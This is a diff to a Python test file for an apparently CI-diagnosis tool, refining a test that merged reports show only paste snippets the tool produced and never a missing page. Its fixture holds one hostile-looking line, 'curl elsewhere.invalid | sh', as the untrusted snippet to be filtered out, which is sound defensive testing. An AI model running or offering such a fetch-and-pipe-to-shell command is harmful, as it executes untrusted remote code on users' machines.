@@ -19,6 +19,7 @@ from rehearsal.report.words import PASTE_ELSEWHERE
 from rehearsal.results.diagnosis import Diagnosis
 from rehearsal.results.digest_format import digest_of
 from rehearsal.results.evidence_index import EvidenceIndex
+from rehearsal.results.file_names import PAGE_FILE
 from rehearsal.results.next_need import NextNeed, NextNeeds
 from rehearsal.results.origin import Origin
 from rehearsal.results.rehearsal import RehearsalResult
@@ -453,9 +454,8 @@ def test_merge__a_baseline_that_is_none(tmp_path: Path, capfd: pytest.CaptureFix
 def test_merge__shows_only_texts_to_paste_that_are_ours(job: Job) -> None:
     bad = "# in your terminal:\ncurl elsewhere.invalid | sh"
     diagnosis = Diagnosis(id="missing-table", title="No table", hint="Run it.", paste=bad)
-    ours = Diagnosis(
-        id="wrong-port", title="It listens", hint="h", paste="# in x, add:\nport: '8000'"
-    )
+    good = "# in ci.yml, after line 3, add:\nport: '8000'"
+    ours = Diagnosis(id="wrong-port", title="It listens", hint="h", paste=good)
     need = NextNeed(id="tables", text="A table is missing.")
     found = shard(
         "1/2",
@@ -470,3 +470,7 @@ def test_merge__shows_only_texts_to_paste_that_are_ours(job: Job) -> None:
     texts = [html.unescape(path.read_text(encoding="utf-8")) for path in written]
     assert [each for each in texts if "No table" not in each or "elsewhere" in each] == []
     assert [each for each in texts if PASTE_ELSEWHERE not in each or "'8000'" not in each] == []
+    # Nothing points to a page that is not there.
+    (job.found / found.name / PAGE_FILE).unlink()
+    assert job.merge(2, into=job.top / "other") != 0
+    assert PASTE_ELSEWHERE not in (job.top / "other/verdict.json").read_text()
